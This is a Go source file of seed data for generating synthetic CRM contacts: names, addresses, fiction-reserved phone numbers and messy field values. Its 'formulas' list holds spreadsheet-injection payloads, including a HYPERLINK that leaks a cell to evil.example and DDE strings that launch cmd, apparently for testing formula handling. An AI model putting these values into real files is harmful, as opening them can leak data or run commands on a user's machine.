package gen

// script says which letters a value needs beyond ASCII, so that a file for
// windows-1252 or Shift_JIS only holds values its encoding can store.
type script uint8

const (
	scriptASCII    script = iota
	scriptWestern         // Western European letters, all in windows-1252
	scriptJapanese        // kanji and kana, all in Shift_JIS
)

// name is a person's first or last name with the ASCII form used in e-mail addresses.
type name struct {
	text, slug string
	script     script
}

var firstNames = []name{
	{"James", "james", scriptASCII}, {"Mary", "mary", scriptASCII}, {"Robert", "robert", scriptASCII},
	{"Patricia", "patricia", scriptASCII}, {"John", "john", scriptASCII}, {"Jennifer", "jennifer", scriptASCII},
	{"Michael", "michael", scriptASCII}, {"Linda", "linda", scriptASCII}, {"David", "david", scriptASCII},
	{"Elizabeth", "elizabeth", scriptASCII}, {"William", "william", scriptASCII}, {"Barbara", "barbara", scriptASCII},
	{"Richard", "richard", scriptASCII}, {"Susan", "susan", scriptASCII}, {"Joseph", "joseph", scriptASCII},
	{"Jessica", "jessica", scriptASCII}, {"Thomas", "thomas", scriptASCII}, {"Sarah", "sarah", scriptASCII},
	{"Charles", "charles", scriptASCII}, {"Karen", "karen", scriptASCII}, {"Christopher", "christopher", scriptASCII},
	{"Lisa", "lisa", scriptASCII}, {"Daniel", "daniel", scriptASCII}, {"Nancy", "nancy", scriptASCII},
	{"Matthew", "matthew", scriptASCII}, {"Ashley", "ashley", scriptASCII}, {"Anthony", "anthony", scriptASCII},
	{"Emily", "emily", scriptASCII}, {"Olivia", "olivia", scriptASCII}, {"Liam", "liam", scriptASCII},
	{"Noah", "noah", scriptASCII}, {"Emma", "emma", scriptASCII}, {"Ethan", "ethan", scriptASCII},
	{"Sophia", "sophia", scriptASCII}, {"Priya", "priya", scriptASCII}, {"Wei", "wei", scriptASCII},
	{"Aisha", "aisha", scriptASCII}, {"Carlos", "carlos", scriptASCII}, {"Fatima", "fatima", scriptASCII},
	{"Mohammed", "mohammed", scriptASCII}, {"Grace", "grace", scriptASCII}, {"Mary-Kate", "marykate", scriptASCII},
	{"José", "jose", scriptWestern}, {"Françoise", "francoise", scriptWestern}, {"Søren", "soren", scriptWestern},
	{"Zoë", "zoe", scriptWestern}, {"Jürgen", "juergen", scriptWestern}, {"Renée", "renee", scriptWestern},
	{"Chloé", "chloe", scriptWestern}, {"André", "andre", scriptWestern}, {"Björn", "bjorn", scriptWestern},
	{"Inés", "ines", scriptWestern}, {"Raphaël", "raphael", scriptWestern}, {"Ángel", "angel", scriptWestern},
	{"太郎", "taro", scriptJapanese}, {"花子", "hanako", scriptJapanese}, {"翔太", "shota", scriptJapanese},
	{"美咲", "misaki", scriptJapanese}, {"健一", "kenichi", scriptJapanese}, {"陽菜", "hina", scriptJapanese},
}

var lastNames = []name{
	{"Smith", "smith", scriptASCII}, {"Johnson", "johnson", scriptASCII}, {"Williams", "williams", scriptASCII},
	{"Brown", "brown", scriptASCII}, {"Jones", "jones", scriptASCII}, {"Miller", "miller", scriptASCII},
	{"Davis", "davis", scriptASCII}, {"Rodriguez", "rodriguez", scriptASCII}, {"Martinez", "martinez", scriptASCII},
	{"Hernandez", "hernandez", scriptASCII}, {"Lopez", "lopez", scriptASCII}, {"Wilson", "wilson", scriptASCII},
	{"Anderson", "anderson", scriptASCII}, {"Taylor", "taylor", scriptASCII}, {"Moore", "moore", scriptASCII},
	{"Jackson", "jackson", scriptASCII}, {"Martin", "martin", scriptASCII}, {"Lee", "lee", scriptASCII},
	{"Thompson", "thompson", scriptASCII}, {"White", "white", scriptASCII}, {"Harris", "harris", scriptASCII},
	{"Clark", "clark", scriptASCII}, {"Lewis", "lewis", scriptASCII}, {"Walker", "walker", scriptASCII},
	{"Young", "young", scriptASCII}, {"King", "king", scriptASCII}, {"Wright", "wright", scriptASCII},
	{"Patel", "patel", scriptASCII}, {"Nguyen", "nguyen", scriptASCII}, {"Kim", "kim", scriptASCII},
	{"Chen", "chen", scriptASCII}, {"Singh", "singh", scriptASCII}, {"O'Brien", "obrien", scriptASCII},
	{"McDonald", "mcdonald", scriptASCII}, {"van der Berg", "vanderberg", scriptASCII}, {"Smith-Jones", "smith-jones", scriptASCII},
	{"Müller", "mueller", scriptWestern}, {"Schröder", "schroeder", scriptWestern}, {"García", "garcia", scriptWestern},
	{"Núñez", "nunez", scriptWestern}, {"Lefèvre", "lefevre", scriptWestern}, {"Jørgensen", "jorgensen", scriptWestern},
	{"Çelik", "celik", scriptWestern}, {"Peña", "pena", scriptWestern}, {"Weiß", "weiss", scriptWestern},
	{"O’Connor", "oconnor", scriptWestern},
	{"佐藤", "sato", scriptJapanese}, {"鈴木", "suzuki", scriptJapanese}, {"高橋", "takahashi", scriptJapanese},
	{"田中", "tanaka", scriptJapanese}, {"渡辺", "watanabe", scriptJapanese}, {"山本", "yamamoto", scriptJapanese},
}

// localized is a value with the ASCII spelling used where the encoding lacks its
// letters; ascii is empty when text is ASCII already.
type localized struct{ text, ascii string }

// country is what an account's country decides: labels a CRM might hold for it,
// company suffixes, street names, and whether the house number follows the street.
type country struct {
	callingCode   string
	labels        []string // labels[0] is the ISO code, the only one a clean file uses
	suffixes      []string
	streets       []localized
	numberAfter   bool
	places        []place
	nationalTrunk string // the digit dialled before a national number: "1" in the US, "0" in Europe
}

// place is a city with its postal code and a phone range for fictional numbers:
// digits are fixed, each 'x' is random, and spaces group the national number.
type place struct {
	city, state localized
	zip         string // a US ZIP prefix of three digits, or a whole postal code
	phone       string
}

var unitedStates = &country{
	callingCode:   "1",
	nationalTrunk: "1",
	labels:        []string{"US", "USA", "United States", "United States of America", "U.S."},
	suffixes:      []string{"", " Inc.", " LLC", " Corp.", " Co."},
	streets: []localized{{"Main St", ""}, {"Oak Ave", ""}, {"Market Street", ""}, {"Broadway", ""},
		{"Elm Street", ""}, {"2nd Ave", ""}, {"Park Blvd", ""}, {"Cedar Lane", ""}, {"Washington St", ""},
		{"Lakeview Drive", ""}, {"Sunset Blvd", ""}, {"Mission St", ""}, {"Industrial Pkwy", ""}},
	// US numbers use the 555-0100 to 555-0199 lines, which are reserved for fiction.
	places: []place{
		{localized{"San Francisco", ""}, localized{"CA", ""}, "941", "415 555 01xx"},
		{localized{"Los Angeles", ""}, localized{"CA", ""}, "900", "213 555 01xx"},
		{localized{"San Diego", ""}, localized{"CA", ""}, "921", "619 555 01xx"},
		{localized{"San Jose", ""}, localized{"CA", ""}, "951", "408 555 01xx"},
		{localized{"Seattle", ""}, localized{"WA", ""}, "981", "206 555 01xx"},
		{localized{"Portland", ""}, localized{"OR", ""}, "972", "503 555 01xx"},
		{localized{"Denver", ""}, localized{"CO", ""}, "802", "303 555 01xx"},
		{localized{"Phoenix", ""}, localized{"AZ", ""}, "850", "602 555 01xx"},
		{localized{"Dallas", ""}, localized{"TX", ""}, "752", "214 555 01xx"},
		{localized{"Houston", ""}, localized{"TX", ""}, "770", "713 555 01xx"},
		{localized{"Austin", ""}, localized{"TX", ""}, "787", "512 555 01xx"},
		{localized{"Chicago", ""}, localized{"IL", ""}, "606", "312 555 01xx"},
		{localized{"Minneapolis", ""}, localized{"MN", ""}, "554", "612 555 01xx"},
		{localized{"Detroit", ""}, localized{"MI", ""}, "482", "313 555 01xx"},
		{localized{"St. Louis", ""}, localized{"MO", ""}, "631", "314 555 01xx"},
		{localized{"Atlanta", ""}, localized{"GA", ""}, "303", "404 555 01xx"},
		{localized{"Miami", ""}, localized{"FL", ""}, "331", "305 555 01xx"},
		{localized{"Tampa", ""}, localized{"FL", ""}, "336", "813 555 01xx"},
		{localized{"Charlotte", ""}, localized{"NC", ""}, "282", "704 555 01xx"},
		{localized{"Nashville", ""}, localized{"TN", ""}, "372", "615 555 01xx"},
		{localized{"New York", ""}, localized{"NY", ""}, "100", "212 555 01xx"},
		{localized{"Brooklyn", ""}, localized{"NY", ""}, "112", "718 555 01xx"},
		{localized{"Boston", ""}, localized{"MA", ""}, "021", "617 555 01xx"},
		{localized{"Philadelphia", ""}, localized{"PA", ""}, "191", "215 555 01xx"},
		{localized{"Washington", ""}, localized{"DC", ""}, "200", "202 555 01xx"},
		{localized{"Newark", ""}, localized{"NJ", ""}, "071", "973 555 01xx"},
		{localized{"Columbus", ""}, localized{"OH", ""}, "432", "614 555 01xx"},
		{localized{"Salt Lake City", ""}, localized{"UT", ""}, "841", "801 555 01xx"},
		{localized{"Las Vegas", ""}, localized{"NV", ""}, "891", "702 555 01xx"},
		{localized{"New Orleans", ""}, localized{"LA", ""}, "701", "504 555 01xx"},
		{localized{"Hartford", ""}, localized{"CT", ""}, "061", "860 555 01xx"},
		{localized{"Providence", ""}, localized{"RI", ""}, "029", "401 555 01xx"},
	},
}

// European numbers: Ofcom's drama ranges for the UK and ARCEP's fiction ranges for
// France. Germany reserves none, so its numbers are made up in a 5550 block.
var europe = []*country{
	{
		callingCode:   "44",
		nationalTrunk: "0",
		labels:        []string{"GB", "UK", "United Kingdom", "England", "Great Britain"},
		suffixes:      []string{" Ltd", " Ltd.", " PLC", " LLP"},
		streets: []localized{{"Baker Street", ""}, {"High Street", ""}, {"Station Road", ""},
			{"Deansgate", ""}, {"Briggate", ""}, {"Church Lane", ""}},
		places: []place{
			{localized{"London", ""}, localized{}, "EC1A 1BB", "20 7946 0xxx"},
			{localized{"Manchester", ""}, localized{"Greater Manchester", ""}, "M1 1AE", "161 496 0xxx"},
			{localized{"Leeds", ""}, localized{"West Yorkshire", ""}, "LS1 4AP", "113 496 0xxx"},
		},
	},
	{
		callingCode:   "49",
		nationalTrunk: "0",
		labels:        []string{"DE", "Germany", "Deutschland", "GER"},
		suffixes:      []string{" GmbH", " AG", " KG", " GmbH & Co. KG"},
		streets: []localized{{"Hauptstraße", "Hauptstrasse"}, {"Bahnhofstraße", "Bahnhofstrasse"},
			{"Schillerstraße", "Schillerstrasse"}, {"Königsallee", "Koenigsallee"}, {"Lindenweg", ""}},
		numberAfter: true,
		places: []place{
			{localized{"Berlin", ""}, localized{"Berlin", ""}, "10115", "30 5550 xxxx"},
			{localized{"München", "Muenchen"}, localized{"Bayern", ""}, "80331", "89 5550 xxxx"},
			{localized{"Hamburg", ""}, localized{"Hamburg", ""}, "20095", "40 5550 xxxx"},
			{localized{"Köln", "Koeln"}, localized{"Nordrhein-Westfalen", ""}, "50667", "221 5550 xxx"},
			{localized{"Frankfurt am Main", ""}, localized{"Hessen", ""}, "60311", "69 5550 xxxx"},
		},
	},
	{
		callingCode:   "33",
		nationalTrunk: "0",
		labels:        []string{"FR", "France", "FRA"},
		suffixes:      []string{" SA", " SAS", " SARL"},
		streets: []localized{{"rue de la Paix", ""}, {"avenue des Champs-Élysées", "avenue des Champs-Elysees"},
			{"rue Mercière", "rue Merciere"}, {"boulevard Saint-Michel", ""}, {"place Bellecour", ""}},
		places: []place{
			{localized{"Paris", ""}, localized{"Île-de-France", "Ile-de-France"}, "75008", "1 99 00 xx xx"},
			{localized{"Lyon", ""}, localized{"Auvergne-Rhône-Alpes", "Auvergne-Rhone-Alpes"}, "69002", "4 65 71 xx xx"},
			{localized{"Bordeaux", ""}, localized{"Nouvelle-Aquitaine", ""}, "33000", "5 36 49 xx xx"},
			{localized{"Lille", ""}, localized{"Hauts-de-France", ""}, "59000", "3 53 01 xx xx"},
			{localized{"Rennes", ""}, localized{"Bretagne", ""}, "35000", "2 61 91 xx xx"},
		},
	},
}

// word is part of a company name with its form in a web domain.
type word struct{ text, slug string }

var companyAdjectives = []word{{"Blue", "blue"}, {"Northern", "northern"}, {"Summit", "summit"},
	{"Pacific", "pacific"}, {"Golden", "golden"}, {"Silver", "silver"}, {"Evergreen", "evergreen"},
	{"Atlas", "atlas"}, {"Pioneer", "pioneer"}, {"Granite", "granite"}, {"Bright", "bright"},
	{"Prairie", "prairie"}, {"Coastal", "coastal"}, {"Liberty", "liberty"}, {"Sterling", "sterling"},
	{"Red", "red"}, {"True", "true"}, {"Quiet", "quiet"}}

var companyNouns = []word{{"River", "river"}, {"Peak", "peak"}, {"Bridge", "bridge"}, {"Oak", "oak"},
	{"Stone", "stone"}, {"Valley", "valley"}, {"Harbor", "harbor"}, {"Ridge", "ridge"}, {"Point", "point"},
	{"Crest", "crest"}, {"Meadow", "meadow"}, {"Lantern", "lantern"}, {"Anchor", "anchor"}, {"Pine", "pine"}}

var companyTrades = []word{{"Logistics", "logistics"}, {"Consulting", "consulting"}, {"Software", "software"},
	{"Bakery", "bakery"}, {"Dental", "dental"}, {"Construction", "construction"}, {"Realty", "realty"},
	{"Insurance", "insurance"}, {"Foods", "foods"}, {"Systems", "systems"}, {"Labs", "labs"},
	{"Supply", "supply"}, {"Media", "media"}, {"Energy", "energy"}, {"Health", "health"}}

// japaneseTrades end a Japanese company name (trading, industries, construction).
var japaneseTrades = []word{{"商事", "shoji"}, {"工業", "kogyo"}, {"建設", "kensetsu"}}

// personalDomains are RFC 2606 names, so no generated address reaches a mailbox;
// company domains use the reserved .example top-level domain for the same reason.
var personalDomains = []string{"example.com", "example.net", "example.org"}

var invalidPhones = []string{"555-0123", "n/a", "N/A", "none", "123", "000-000-0000", "TBD", "-",
	"unknown", "+1 555", "41555", "call after 5pm"}

// vanityPhones spell a toll-free number in letters, all valid numbers once mapped.
var vanityPhones = []string{"1-800-FLOWERS", "1-888-GOFIXIT", "1-877-NEWHOME", "1-800-PLUMBER",
	"1-866-MYCLEAN", "1-855-GETHELP"}

// formulas are values a spreadsheet would run if it opened the file unprotected.
var formulas = []string{`=HYPERLINK("https://evil.example/?leak="&A2,"Click here")`, "@SUM(1)", "=1+1",
	"+cmd|' /C calc'!A0", "-2+3", `=cmd|' /C notepad'!'A1'`}

var optOutYes = []string{"yes", "Yes", "YES", "true", "TRUE", "True", "1", "Y", "y"}
var optOutNo = []string{"no", "No", "NO", "false", "FALSE", "False", "0", "N", "n"}
var optOutInvalid = []string{"maybe", "unknown", "2", "opt-out", "?"}
